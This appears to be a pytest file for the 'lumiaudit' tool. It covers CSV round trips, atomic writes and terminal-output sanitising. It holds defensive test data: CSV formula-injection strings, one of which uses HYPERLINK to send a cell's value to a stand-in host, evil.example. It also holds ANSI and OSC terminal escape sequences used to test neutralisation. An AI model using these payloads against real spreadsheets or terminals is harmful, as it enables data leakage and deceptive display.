"""lumiaudit.store: the one CSV writer and reader, the atomic writer, terminal-safe printing."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import lumiaudit
from lumiaudit.cli import cli
from lumiaudit.cli._common import sanitize_terminal
from lumiaudit.errors import AuditDirError
from lumiaudit.example import write_basf2_file
from lumiaudit.pipeline import Audit
from lumiaudit.store.audit_dir import TABLES
from lumiaudit.store.tables import (
    MANIFEST,
    escape_text,
    read_csv_table,
    unescape_text,
    write_csv,
    write_manifest,
)
from tests.support.faults import run_entry, write_elog_day


@pytest.fixture(scope="module")
def example_audit(example: dict[str, Path]) -> Audit:
    return lumiaudit.audit(online=example["elog"], offline=example["prod"])


@pytest.fixture(scope="module")
def written(example_audit: Audit, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return example_audit.write(tmp_path_factory.mktemp("store") / "audit", plots=False)


@pytest.mark.parametrize("name", sorted(TABLES))
def test_every_table_round_trips_with_its_dtypes(
    example_audit: Audit, written: Path, name: str
) -> None:
    original = getattr(example_audit, name).reset_index(drop=True)
    for column in original.columns:  # documented: an empty text cell reads back as missing
        if str(original[column].dtype) == "string":
            original[column] = original[column].mask(original[column] == "")
    loaded = getattr(Audit.load(written), name)
    assert len(original.columns) > 0, name
    pd.testing.assert_frame_equal(loaded[list(original.columns)], original, check_exact=True)


def test_round_trip_keeps_int64_times_and_booleans(written: Path) -> None:
    loaded = Audit.load(written)
    assert str(loaded.runs["n_online"].dtype) == "Int64"
    assert str(loaded.runs["flagged"].dtype) == "boolean"
    assert str(loaded.online["start_time"].dtype) == "datetime64[ns, UTC]"
    assert str(loaded.online_entries["chosen"].dtype) == "boolean"
    assert loaded.runs.loc[loaded.runs["run"] == 123, "n_offline"].isna().all()


def test_history_and_ticket_read_the_same_tables(written: Path) -> None:
    from lumiaudit.store.history import read_audit_tables

    tables = read_audit_tables(written)
    loaded = Audit.load(written)
    for name in TABLES:
        pd.testing.assert_frame_equal(tables[name], getattr(loaded, name))


def test_a_table_cut_at_a_line_boundary_is_found(written: Path, tmp_path: Path) -> None:
    import shutil

    copy = tmp_path / "audit"
    shutil.copytree(written, copy)
    lines = (copy / "runs.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    (copy / "runs.csv").write_text("".join(lines[:-3]), encoding="utf-8")
    with pytest.raises(AuditDirError, match=r"runs\.csv: damaged audit file: 21 rows, tables"):
        Audit.load(copy)


def test_one_timestamp_format_for_every_csv(tmp_path: Path, data_dir: Path) -> None:
    """``online -o`` and ``audit --out`` write the same column the same way."""
    rundb = data_dir / "online" / "rundb_page1.json"
    write_basf2_file(
        tmp_path / "prod" / "r00101" / "mdst.physics.0012.00101.HLT1.f00000.root",
        experiment=12,
        run=101,
        n_events=5,
    )
    online_csv = tmp_path / "online.csv"
    result = CliRunner().invoke(cli, ["online", str(rundb), "-o", str(online_csv)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "audit"
    result = CliRunner().invoke(
        cli,
        ["audit", "--online", str(rundb), "--offline", str(tmp_path / "prod"), "--out", str(out),
         "--no-plots", "--no-progress"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output

    def starts(path: Path) -> dict[str, str]:
        with path.open(encoding="utf-8", newline="") as fh:
            return {r["run"]: r["start_time"] for r in csv.DictReader(fh) if r["start_time"]}

    from_online, from_audit = starts(online_csv), starts(out / "online.csv")
    assert from_online, "the run database gives start times"
    assert from_online == from_audit
    assert all(
        re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", v) for v in from_online.values()
    )


FORMULAS = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1:A9)", "+1+2", "-2+3", "\tx", "\rx"]


def test_formulas_are_neutralised_and_read_back(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "text": pd.array([*FORMULAS, "'quoted", "plain", None], dtype="string"),
            "number": pd.array([-5, 3, -1, 0, 7, 8, -9, 10, None], dtype="Int64"),
            "ratio": pd.array([-0.5, 1.0, 2.5, -1e-9, 0.0, 3.0, 4.0, 5.0, None], dtype="Float64"),
        }
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert [r["number"] for r in rows][:3] == ["-5", "3", "-1"]  # numbers untouched
    assert rows[0]["ratio"] == "-0.5"
    write_manifest(tmp_path, {"t": ("t.csv", frame)})
    entry = json.loads((tmp_path / MANIFEST).read_text())["tables"]["t"]
    back = read_csv_table(path, entry=entry)
    pd.testing.assert_frame_equal(back, frame)


def test_formulas_in_the_elog_reach_the_audit_csv_neutralised(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    elog = write_elog_day(tmp_path / "elog" / "210301a.log", [run_entry(1, 101, evil)])
    write_basf2_file(
        tmp_path / "prod" / "r00101" / "mdst.physics.0012.00101.HLT1.f00000.root",
        experiment=12,
        run=101,
        n_events=5,
    )
    out = tmp_path / "audit"
    result = CliRunner().invoke(
        cli,
        ["audit", "--online", str(elog), "--offline", str(tmp_path / "prod"), "--out", str(out),
         "--no-plots", "--no-progress"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    seen = False
    for csv_file in out.glob("*.csv"):
        with csv_file.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith("="), (csv_file.name, cell)
                    seen |= cell.startswith("'=HYPERLINK")
    assert seen, "the formula text should be in some table, escaped"
    loaded = Audit.load(out)
    assert evil in set(loaded.online_entries["count_text"].dropna())


text_cells = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1)


@settings(max_examples=60, deadline=None)
@given(
    texts=st.lists(st.one_of(st.none(), text_cells), min_size=1, max_size=8),
    data=st.data(),
)
def test_any_table_round_trips(tmp_path_factory: pytest.TempPathFactory, texts, data) -> None:  # type: ignore[no-untyped-def]
    n = len(texts)
    ints = data.draw(
        st.lists(st.one_of(st.none(), st.integers(-(2**62), 2**62)), min_size=n, max_size=n)
    )
    floats = data.draw(
        st.lists(
            st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False)),
            min_size=n,
            max_size=n,
        )
    )
    bools = data.draw(st.lists(st.one_of(st.none(), st.booleans()), min_size=n, max_size=n))
    stamps = data.draw(
        st.lists(
            st.one_of(
                st.none(),
                st.datetimes(
                    min_value=datetime(1970, 1, 1),
                    max_value=datetime(2200, 1, 1),
                    timezones=st.just(UTC),
                ),
            ),
            min_size=n,
            max_size=n,
        )
    )
    frame = pd.DataFrame(
        {
            "text": pd.array(texts, dtype="string"),
            "count": pd.array(ints, dtype="Int64"),
            "ratio": pd.array(floats, dtype="Float64"),
            "flag": pd.array(bools, dtype="boolean"),
            "time": pd.to_datetime(pd.Series(stamps, dtype=object), utc=True).astype(
                "datetime64[ns, UTC]"
            ),
        }
    )
    # an empty text cell is written as an empty cell: it reads back as missing
    frame["text"] = frame["text"].mask(frame["text"] == "")
    d = tmp_path_factory.mktemp("rt")
    write_csv(frame, d / "t.csv")
    write_manifest(d, {"t": ("t.csv", frame)})
    entry = json.loads((d / MANIFEST).read_text())["tables"]["t"]
    back = read_csv_table(d / "t.csv", entry=entry)
    pd.testing.assert_frame_equal(back, frame, check_exact=True)


@given(st.text())
def test_escape_is_reversible(value: str) -> None:
    assert unescape_text(escape_text(value)) == value
    assert not escape_text(value).startswith(("=", "+", "-", "@", "\t", "\r"))


# ------------------------------------------------------------------ terminal output

CONTROL = [
    ("\x1b[2J\x1b[Hcleared", "cleared"),
    ("\x1b]0;window title\x07text", "text"),
    ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
    ("red\x1b[31m!\x1b[0m", "red!"),
    ("bell\x07 back\x08 del\x7f", "bell back del"),
    ("c1\x9b31m csi", "c1 csi"),
    ("carriage\rreturn", "carriagereturn"),
    ("tab\tand\nnewline kept, ünïcödé too", "tab\tand\nnewline kept, ünïcödé too"),
]


@pytest.mark.parametrize(("text", "shown"), CONTROL)
def test_sanitize_terminal(text: str, shown: str) -> None:
    assert sanitize_terminal(text) == shown


def test_explain_and_audit_print_no_control_sequences(tmp_path: Path) -> None:
    """A file name (and elog text) carrying escape sequences never reaches the terminal raw."""
    hostile = "evil\x1b]0;pwned\x07\x1b[2J\x9b8m dir"
    elog = write_elog_day(
        tmp_path / "elog" / "210301a.log",
        [run_entry(1, 101, "7", text="note \x1b[31mred\x1b[0m end")],
    )
    write_basf2_file(
        tmp_path / "prod" / "r00101" / hostile / "mdst.physics.0012.00101.HLT1.f00000.root",
        experiment=12,
        run=101,
        n_events=5,
    )
    out = tmp_path / "audit"
    audit = CliRunner().invoke(
        cli,
        ["audit", "--online", str(elog), "--offline", str(tmp_path / "prod"), "--out", str(out),
         "--no-plots", "--no-progress"],
    )  # fmt: skip
    assert audit.exit_code == 0, audit.output
    explain = CliRunner().invoke(cli, ["explain", "101", "--audit", str(out)])
    assert explain.exit_code == 0, explain.output
    assert "r00101/evil dir/mdst" in explain.output  # the name is shown, its controls are not
    ticket = CliRunner().invoke(cli, ["ticket", "--audit", str(out), "--run", "101"])
    assert ticket.exit_code == 0, ticket.output
    for result in (audit, explain, ticket):
        assert "\x1b" not in result.output, result.output
        assert "\x9b" not in result.output, result.output
        assert "\x07" not in result.output


def test_atomic_writer_leaves_the_old_file_on_failure(tmp_path: Path) -> None:
    from lumiaudit.store.atomic import write_with

    target = tmp_path / "t.csv"
    target.write_text("old\n", encoding="utf-8")

    def broken(handle: io.TextIOBase) -> None:
        handle.write("half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_with(target, broken)  # type: ignore[arg-type]
    assert target.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_log_lines_carry_no_control_sequences() -> None:
    import logging

    from lumiaudit.cli._common import _TerminalFormatter

    record = logging.LogRecord(
        "lumiaudit.x",
        logging.WARNING,
        __file__,
        1,
        "cannot read %s",
        ("e\x1b[2Jvil.root\x07",),
        None,
    )
    line = _TerminalFormatter("lumiaudit: %(levelname)s: %(message)s").format(record)
    assert line == "lumiaudit: WARNING: cannot read evil.root"
